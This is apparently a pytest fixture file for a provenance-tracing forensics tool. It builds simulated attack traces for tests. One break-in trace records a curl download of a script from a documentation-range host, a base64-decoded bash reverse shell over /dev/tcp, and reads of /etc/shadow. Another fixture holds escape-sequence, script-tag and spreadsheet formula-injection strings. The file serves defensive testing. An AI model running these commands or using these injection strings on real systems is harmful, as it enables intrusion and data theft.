"""Traces made by hand: a small break-in over two hosts, one full of hostile text, and one with many objects."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from typing import Any

import pytest

from provenance.ingest.clock import at_ms
from provenance.ingest.facts import Blind, FlowKind, Name
from provenance.ingest.identity import EntityKind, format_id
from provenance.store.interface import Direction, EventKey, Node
from provenance.trace.result import Decoded, Effect, Entry, HostReached, Slice, Step, Trace, TraceEdge, Truncation

BEGIN = 1_795_490_932_000
"""2026-11-24T03:28:52Z."""


class Maker:
    """Numbers nodes and puts edges between them; `ms` counts from BEGIN."""

    def __init__(self) -> None:
        self.nodes: dict[int, Node] = {}
        self.edges: list[TraceEdge] = []
        self.bounds: dict[int, int] = {}

    def node(self, kind: EntityKind, ms: int, host: str = "web01", names: Sequence[str] = (), **attributes: Any) -> int:
        id = len(self.nodes) + 1
        moment = at_ms(BEGIN + ms)
        named = tuple(Name(id, path, moment, moment) for path in names)
        self.nodes[id] = Node(id, kind, host, moment, attributes, named)
        self.bounds[id] = moment
        return id

    def process(self, ms: int, pid: int, command: str, host: str = "web01", **attributes: Any) -> int:
        return self.node(
            EntityKind.PROCESS, ms, host, pid=pid, ppid=1, command=command, argv=command.split(" "), **attributes
        )

    def file(self, ms: int, *names: str, host: str = "web01", **attributes: Any) -> int:
        return self.node(EntityKind.FILE, ms, host, names, path=names[0], **attributes)

    def peer(self, ms: int, ip: str, port: int, host: str = "web01") -> int:
        return self.node(EntityKind.ENDPOINT, ms, host, ip=ip, port=port, protocol="tcp")

    def flow(self, kind: FlowKind, source: int, target: int, ms: int, **more: Any) -> str:
        ends = [format_id(self.nodes[id].kind, id) for id in (source, target)]
        id = f"{kind.name}-{ends[0]}-{ends[1]}"
        key = EventKey(self.nodes[source].host, BEGIN + ms, 1000 + len(self.edges))
        moment = at_ms(BEGIN + ms)
        self.edges.append(TraceEdge(id, kind, source, target, moment, moment, 1, (key,), **more))
        return id

    def slice(self, direction: Direction, *start: int, truncated: Truncation | None = None) -> Slice:
        at = self.bounds[start[0]]
        return Slice(direction, start, at, self.bounds, self.nodes, tuple(self.edges), truncated)


def break_in() -> Trace:
    """A web service, a download, a shell that calls out, and an archive fetched from a second host."""
    make = Maker()
    java = make.process(-9000, 6905, "/usr/bin/java -cp /opt/app App", uid=33, user="www-data", cwd="/")
    jar = make.file(-9000, "/opt/app/App.class", device="fe:00", inode=77)
    visitor = make.peer(500, "198.51.100.23", 41966)
    fork = make.process(900, 7101, "/usr/bin/java -cp /opt/app App", forked=True, uid=33)
    curl = make.process(910, 7101, "curl -s -o /tmp/s.sh http://198.51.100.45/s.sh", uid=33)
    web = make.peer(950, "198.51.100.45", 80)
    script = make.file(980, "/tmp/s.sh", "/tmp/.s.sh")
    bash = make.process(1200, 7110, "bash /tmp/s.sh", uid=33)
    shell = make.process(1300, 7110, "bash -i", uid=33)
    c2 = make.peer(1310, "198.51.100.45", 4444)
    pipe = make.node(EntityKind.PIPE, 1400, type="pipe")
    tar = make.process(1500, 7120, "tar xz", uid=0, user="root")
    server_end = make.peer(1600, "10.0.0.20", 22)
    client_end = make.peer(1601, "10.0.0.10", 50022, host="db01")
    sshd = make.process(1590, 880, "sshd: deploy", host="db01", observed_only=True)
    accepted = make.flow(FlowKind.ACCEPTED, visitor, java, 500)
    make.flow(FlowKind.LOADED, jar, java, -9000)
    make.flow(FlowKind.SENT, java, visitor, 600)
    make.flow(FlowKind.SPAWNED, java, fork, 900)
    make.flow(FlowKind.EXECUTED, fork, curl, 910)
    make.flow(FlowKind.CONNECTED, curl, web, 950)
    make.flow(FlowKind.RECEIVED, web, curl, 950)
    make.flow(FlowKind.WROTE, curl, script, 980)
    make.flow(FlowKind.RENAMED, curl, script, 990)
    make.flow(FlowKind.SPAWNED, java, bash, 1200)
    make.flow(FlowKind.READ, script, bash, 1210)
    make.flow(FlowKind.EXECUTED, bash, shell, 1300)
    called = make.flow(FlowKind.CONNECTED, shell, c2, 1310)
    make.flow(FlowKind.SPAWNED, shell, tar, 1500)
    make.flow(FlowKind.PIPED, shell, pipe, 1500)
    make.flow(FlowKind.PIPED, pipe, tar, 1500)
    make.flow(FlowKind.CONNECTED, tar, server_end, 1600)
    reached = make.flow(
        FlowKind.REACHED, server_end, client_end, 1600, confidence=0.9, detail={"reason": "ports agree"}
    )
    make.flow(FlowKind.ACCEPTED, client_end, sshd, 1601)
    bound = make.bounds[visitor]
    return Trace(
        make.slice(Direction.BACKWARD, shell),
        {"select": {"command": "^bash -i$"}},
        (
            Entry(1, visitor, accepted, bound, 0.9312345678, "outside address, accepted 0.4 s before the fork"),
            Entry(2, web, None, make.bounds[web], 0.4, "outside address"),
        ),
        (
            Step(
                bound,
                "web01",
                visitor,
                accepted,
                "198.51.100.23:41966/tcp enters through java (www-data)",
                account="www-data",
                is_arrival=True,
            ),
            Step(
                make.bounds[shell],
                "web01",
                shell,
                called,
                "bash -i → contacts 198.51.100.45:4444/tcp; reads /etc/shadow; writes /tmp/s.sh",
                account="uid 33",
                effects=(
                    Effect("contacts", ("198.51.100.45:4444/tcp",)),
                    Effect("reads", ("/etc/shadow", "/srv/shop.db")),
                    Effect("writes", ("/tmp/s.sh (later /tmp/.s.sh)",)),
                ),
            ),
            Step(
                make.bounds[tar],
                "web01",
                tar,
                None,
                "tar xz",
                account="root",
                times=35,
                until=make.bounds[client_end],
                rank=2,
            ),
        ),
        (HostReached("web01", bound, ()), HostReached("db01", make.bounds[client_end], (reached,))),
        (Decoded(bash, "base64", "bash -i >& /dev/tcp/198.51.100.45/4444"),),
        (Blind("web01", at_ms(BEGIN), at_ms(BEGIN + 700), "12 records were lost: any flow may be missing"),),
    )


def hostile() -> Trace:
    """Names that try every grammar."""
    make = Maker()
    evil = '\x1b[2J"];\n<script>&\u202e%s\\N{0}`|\udcff\x00end #quot;'
    shell = make.process(0, 1, evil, host='h"<\x9b>', cwd=evil, exe=evil)
    for number, name in enumerate((f"/tmp/{evil}", "=cmd|' /C calc'!A0", "@SUM(1)", "-1", "]]>", "\u2028")):
        make.flow(FlowKind.WROTE, shell, make.file(number, name, host='h"<\x9b>'), number)
    step = Step(make.bounds[shell], evil, shell, None, evil, 0, evil, (Effect(evil, (evil,)),))
    entry = Entry(1, shell, None, make.bounds[shell], 1.0, evil)
    cut = Truncation(evil, 7, (shell,))
    return Trace(
        make.slice(Direction.FORWARD, shell, truncated=cut),
        {},
        (entry,),
        (step,),
        (HostReached(evil, make.bounds[shell], ()),),
        (Decoded(shell, evil, evil),),
        (Blind(evil, 0, make.bounds[shell], evil),),
    )


def crowded() -> Trace:
    """Many libraries, peers and files in a few folders, and a chain of processes too deep to indent."""
    make = Maker()
    server = make.process(0, 500, "server --listen", uid=0)
    for number in range(60):
        library = make.file(number, f"/usr/lib/{'abc'[number % 3]}/lib{number}.so")
        make.flow(FlowKind.LOADED, library, server, number)
        make.flow(FlowKind.ACCEPTED, make.peer(number, f"192.0.2.{number % 5}", 40000 + number), server, number)
    parent = server
    for number in range(40):
        child = make.process(100 + number, 600 + number, f"worker {number}", uid=0)
        make.flow(FlowKind.SPAWNED, parent, child, 100 + number)
        make.flow(FlowKind.WROTE, child, make.file(100 + number, f"/srv/data/{number}.out"), 100 + number)
        parent = child
    return Trace(make.slice(Direction.FORWARD, server), {})


SAMPLES: dict[str, Callable[[], Trace]] = {"break_in": break_in, "hostile": hostile, "crowded": crowded}


@pytest.fixture(params=sorted(SAMPLES))
def sample(request: pytest.FixtureRequest) -> tuple[str, Trace]:
    """Each trace with its name."""
    return request.param, SAMPLES[request.param]()


@pytest.fixture
def hostile_trace() -> Trace:
    return hostile()


@pytest.fixture
def break_in_trace() -> Trace:
    return break_in()


@pytest.fixture
def crowded_trace() -> Trace:
    return crowded()
